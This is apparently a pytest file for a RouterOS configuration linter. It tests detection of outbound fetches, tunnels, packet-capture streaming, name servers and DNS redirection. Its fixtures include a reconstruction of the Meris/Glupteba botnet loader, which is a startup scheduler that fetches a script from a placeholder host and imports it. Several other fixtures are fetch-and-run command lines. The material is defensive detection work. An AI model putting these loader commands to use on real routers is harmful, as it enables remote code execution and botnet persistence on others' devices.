"""What the router does towards the outside by itself: fetches, tunnels, captures, name servers."""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest

from routerlint.exposure.evaluate import evaluate
from routerlint.model.device import Device
from routerlint.model.outbound import Outbound
from routerlint.rules.outbound import outbound_subjects
from vendor_parsers.routeros.fetching import read_fetches

Read = Callable[[str], Device]

HEAD = "# 2024-01-01 00:00:00 by RouterOS 7.14\n/interface bridge\nadd name=bridge\n"


def fetches(device: Device) -> list[Outbound]:
    return [found for found in device.outbound if found.kind == "fetch"]


def test_a_scheduled_loader_is_read_as_exports_write_it(read: Read) -> None:
    # The loader of the Meris and Glupteba botnets in the form of an export; addresses are our own.
    text = HEAD + (
        "/system scheduler\n"
        'add interval=3m name=U7 on-event="/tool fetch url=http://host.example/poll/0f0e0d0c-\\\n'
        "    0b0a-4908-8706-050403020100 mode=http dst-path=7xe7zt46hb08\\r\\\n"
        '    \\n/import 7xe7zt46hb08" policy=read,write start-time=startup\n'
    )
    (found,) = fetches(read(text))
    assert (found.name, found.protocol, found.host) == ("U7", "http", "host.example")
    assert (found.path, found.file, found.runs, found.enabled) == ("/poll/{uuid}", "7xe7zt46hb08", True, True)
    assert found.spans[0].line == 5


@pytest.mark.parametrize(
    ("commands", "runs"),
    [
        ('/tool fetch url="https://h.example/a.rsc"; /import file-name=a.rsc', True),
        ('/tool fetch url="https://h.example/a.rsc" dst-path=b.rsc; /import b.rsc', True),
        ("/tool/fetch url=https://h.example/a.rsc dst-path=$f\n/import file=$f", True),
        ('/tool fetch url="https://h.example/a.rsc"; /import other.rsc', False),
        ('/tool fetch url="https://h.example/a.txt" keep-result=no', False),
        (':local r [/tool fetch url=https://h.example/x output=user as-value]; :local p [:parse ($r->"data")]', True),
        ("/tool fetch url=https://h.example/x output=user as-value", False),
    ],
)
def test_what_is_fetched_is_run_where_the_same_script_imports_or_parses_it(commands: str, runs: bool) -> None:
    # MikroTik documentation, "Scripting": import runs a file, [:parse] makes commands of a text.
    (found,) = read_fetches(commands)
    assert found.runs is runs


def test_an_upload_brings_nothing_to_the_router() -> None:
    # MikroTik documentation, "Fetch": upload.
    assert not list(
        read_fetches("/tool fetch upload=yes mode=ftp address=h.example src-path=a.backup user=u password=p")
    )


def test_the_older_form_with_address_and_src_path_is_read() -> None:
    (found,) = read_fetches("/tool fetch address=203.0.113.9 src-path=mikrotik.php mode=http; /import mikrotik.php")
    assert (found.protocol, found.host, found.file, found.runs) == ("http", "203.0.113.9", "mikrotik.php", True)


def test_an_address_that_only_the_run_knows_is_no_host() -> None:
    (found,) = read_fetches("/tool fetch url=$url keep-result=no")
    assert found.host == ""


def test_keys_and_passwords_of_an_address_stay_out(read: Read) -> None:
    canary = "C4n4ryS3cret"
    text = HEAD + (
        "/system script\n"
        f'add name=report source="/tool fetch url=\\"https://me:{canary}@api.example/bot1:{canary}/send?k={canary}\\"\\r\\\n'
        f'    \\n/tool fetch mode=ftp address=h.example user=me password=\\"a {canary}\\" src-path=x"\n'
    )
    device = read(text)
    assert len(fetches(device)) == 2
    assert canary not in repr(device)
    assert fetches(device)[0].path == "/{}/send"


def test_dialled_tunnels_keep_their_names_and_hosts(read: Read) -> None:
    # MikroTik documentation, "L2TP": connect-to.
    text = HEAD + "/interface l2tp-client\nadd connect-to=S80.VPN.example disabled=no name=lvpn user=x\n"
    (found,) = [found for found in read(text).outbound if found.kind == "tunnel"]
    assert (found.name, found.protocol, found.host, found.enabled) == ("lvpn", "l2tp", "s80.vpn.example", True)


def test_a_sniffer_streams_only_while_it_is_told_to(read: Read) -> None:
    # MikroTik documentation, "Packet Sniffer"; verbose exports hold streaming-server=0.0.0.0:37008.
    streaming = "/tool sniffer\nset streaming-enabled=yes streaming-server=203.0.113.9:37008\n"
    (found,) = read(HEAD + streaming).outbound
    assert (found.kind, found.host, found.enabled) == ("capture", "203.0.113.9", True)
    (found,) = read(HEAD + streaming.replace("yes", "no")).outbound
    assert not found.enabled
    assert not read(HEAD + "/tool sniffer\nset streaming-enabled=no streaming-server=0.0.0.0:37008\n").outbound


def test_name_servers_of_the_router_and_of_its_clients_are_told_apart(read: Read) -> None:
    text = HEAD + (
        "/ip dns\nset servers=9.9.9.9,2620:fe::fe\n"
        "/ip dhcp-server network\nadd address=192.168.88.0/24 dns-server=192.168.88.1,203.0.113.53 gateway=192.168.88.1\n"
    )
    found = [(one.kind, one.host) for one in read(text).outbound]
    assert found == [
        ("resolver", "9.9.9.9"),
        ("resolver", "2620:fe::fe"),
        ("clients-resolver", "192.168.88.1"),
        ("clients-resolver", "203.0.113.53"),
    ]


def test_the_access_list_of_the_socks_proxy_is_kept_whatever_it_says(read: Read) -> None:
    text = HEAD + "/ip socks\nset port=4153\n/ip socks access\nadd action=deny src-address=!203.0.113.128/25\n"
    (socks,) = [found for found in read(text).listeners if found.name == "socks"]
    assert socks.enabled.value is False
    assert socks.named_sources == ("203.0.113.128/25",)
    assert [span.line for span in socks.spans] == [5, 7]


NAT = (
    "/interface list\nadd name=WAN\n/interface list member\nadd interface=ether1 list=WAN\n"
    "/ip address\nadd address=192.168.88.1/24 interface=bridge network=192.168.88.0\n"
    "/ip dhcp-client\nadd disabled=no interface=ether1\n/ip firewall nat\n"
    "add action=masquerade chain=srcnat out-interface-list=WAN\n"
)


@pytest.mark.parametrize(
    ("rule", "hosts"),
    [
        (
            "add action=dst-nat chain=dstnat dst-port=53 in-interface=bridge protocol=udp to-addresses=203.0.113.53",
            ["203.0.113.53"],
        ),
        (
            "add action=dst-nat chain=dstnat dst-port=53 protocol=udp to-addresses=203.0.113.53 to-ports=5353",
            ["203.0.113.53"],
        ),
        ("add action=dst-nat chain=dstnat dst-port=53 in-interface=bridge protocol=udp to-addresses=192.168.88.5", []),
        ("add action=redirect chain=dstnat dst-port=53 in-interface=bridge protocol=udp", []),
        (
            "add action=dst-nat chain=dstnat dst-port=53,80 in-interface=bridge protocol=tcp to-addresses=203.0.113.53",
            [],
        ),
        ("add action=dst-nat chain=dstnat dst-port=53 in-interface=ether1 protocol=udp to-addresses=203.0.113.53", []),
        ("add action=dst-nat chain=dstnat disabled=yes dst-port=53 protocol=udp to-addresses=203.0.113.53", []),
    ],
)
def test_redirected_name_queries_are_those_of_inside_devices_to_a_public_server(
    read: Read, rule: str, hosts: list[str]
) -> None:
    report = evaluate(read(HEAD + NAT + rule + "\n"))
    found = [subject.hosts[0] for subject in outbound_subjects(report) if subject.kind == "dns-redirect"]
    assert found == hosts


@pytest.mark.parametrize(
    "text",
    [
        "tool fetch url=" + "a" * 200_000,
        "tool fetch " * 20_000,
        "tool fetch url=http://" + "@" * 100_000,
        'tool fetch url="' + "\\" * 100_000,
        "import " * 50_000 + "tool fetch url=x",
        " " * 200_000 + "tool fetch",
        "tool" + " " * 200_000 + "fetch",
        "[ " * 100_000 + ":parse tool fetch url=http://x/",
        "tool fetch url=http://" + "a/" * 100_000,
    ],
)
def test_no_script_makes_the_reading_stall(text: str) -> None:
    start = time.process_time()
    list(read_fetches(text))
    assert time.process_time() - start < 1
